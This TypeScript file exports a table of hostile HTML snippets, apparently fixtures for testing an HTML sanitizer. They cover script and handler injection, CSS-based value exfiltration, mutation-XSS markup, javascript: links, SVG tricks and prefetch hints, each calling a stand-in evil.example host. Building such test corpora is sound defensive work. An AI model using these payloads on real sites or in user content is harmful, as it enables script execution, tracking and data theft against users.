export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  script: '<script>fetch("https://script.evil.example/"); parent.postMessage("ready", "*")</script>',
  'script source': '<script src="https://source.evil.example/x.js"></script>',
  handler: '<img src="x" onerror="location=\'https://handler.evil.example/\'"><body onload="alert(1)">',
  form: '<form action="https://form.evil.example/"><input name="a" autofocus onfocus="this.form.submit()"><button>Go</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://refresh.evil.example/">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  base: '<base href="https://base.evil.example/"><img src="relative.png"><a href="x">x</a>',
  'remote image':
    '<img src="https://image.evil.example/pixel.gif" srcset="https://srcset.evil.example/2x.gif 2x">',
  'image without scheme': '<img src="//plain.evil.example/pixel.gif">',
  picture:
    '<picture><source srcset="https://picture.evil.example/p.gif"><img src="https://picture2.evil.example/p.gif"></picture>',
  'remote font':
    '<style>@font-face{font-family:f;src:url(https://font.evil.example/f.woff2)}body{font-family:f}</style>Text',
  'style import':
    '<style>@import "https://import.evil.example/s.css"; @import url(https://import2.evil.example/s.css);</style>',
  'style sheet': '<link rel="stylesheet" href="https://sheet.evil.example/s.css">',
  'css exfiltration':
    '<style>input[value^="a"]{background:url("https://css.evil.example/a")}</style><input value="abc">',
  'style attribute':
    '<div style="background:url(https://attribute.evil.example/b.png);list-style:url(https://list.evil.example/l.png)">x</div>',
  'css escape': '<div style="background:u\\72l(https://escape.evil.example/b.png)">x</div>',
  'css image set': '<div style="background:image-set(\'https://set.evil.example/b.png\' 1x)">x</div>',
  background:
    '<table background="https://background.evil.example/t.png"><tr><td background="//td.evil.example/t.png">x</td></tr></table>',
  preconnect:
    '<link rel="preconnect" href="https://preconnect.evil.example"><link rel="dns-prefetch" href="//dns.evil.example"><link rel="prefetch" href="https://prefetch.evil.example/"><link rel="modulepreload" href="https://preload.evil.example/m.js">',
  frame:
    '<iframe src="https://frame.evil.example/"></iframe><iframe srcdoc="<img src=https://srcdoc.evil.example/x>"></iframe>',
  object: '<object data="https://object.evil.example/"></object><embed src="https://embed.evil.example/">',
  media:
    '<video src="https://video.evil.example/v" poster="https://poster.evil.example/p"></video><audio src="https://audio.evil.example/a" autoplay></audio>',
  'javascript link':
    '<a href="javascript:fetch(\'https://js.evil.example/\')">click</a><a href="data:text/html,<script>1</script>">data</a>',
  svg: '<svg onload="fetch(\'https://svg.evil.example/\')"><image href="https://svgimage.evil.example/i.png"/><use href="https://use.evil.example/u.svg#a"/><a xlink:href="https://svglink.evil.example/"><text y="20">svg</text></a><script>1</script></svg>',
  'svg animation':
    '<svg><a><set attributeName="href" to="https://animate.evil.example/"/><text y="20">animated</text></a></svg>',
  'mutated markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://mutated.evil.example/x onerror=alert(1)&gt;">',
  'mutated markup with a connection':
    '<form><math><mtext></form><form><mglyph><style></math><link rel=preconnect href="https://revived.evil.example"></style></mglyph></form></mtext></math>',
  'mutated markup in svg':
    '<svg></p><style><g title="</style><link rel=preconnect href=https://revivedsvg.evil.example>"></g></style></svg>',
  'text that becomes markup':
    '<noembed><p title="</noembed><link rel=preconnect href=https://noembed.evil.example>"></p></noembed><xmp><p title="</xmp><link rel=preconnect href=https://xmp.evil.example>"></p></xmp>',
  noscript: '<noscript><img src="https://noscript.evil.example/x"></noscript>',
  template:
    '<template shadowrootmode="open"><img src="https://template.evil.example/x"><link rel="preconnect" href="https://shadow.evil.example"></template>',
  'early end':
    '</body></html><script>fetch("https://end.evil.example/")</script><img src="https://end2.evil.example/x">',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://speculation.evil.example/"]}]}</script>',
  'link ping':
    '<a href="https://target.evil.example/" ping="https://ping.evil.example/" target="_top">click</a>',
};
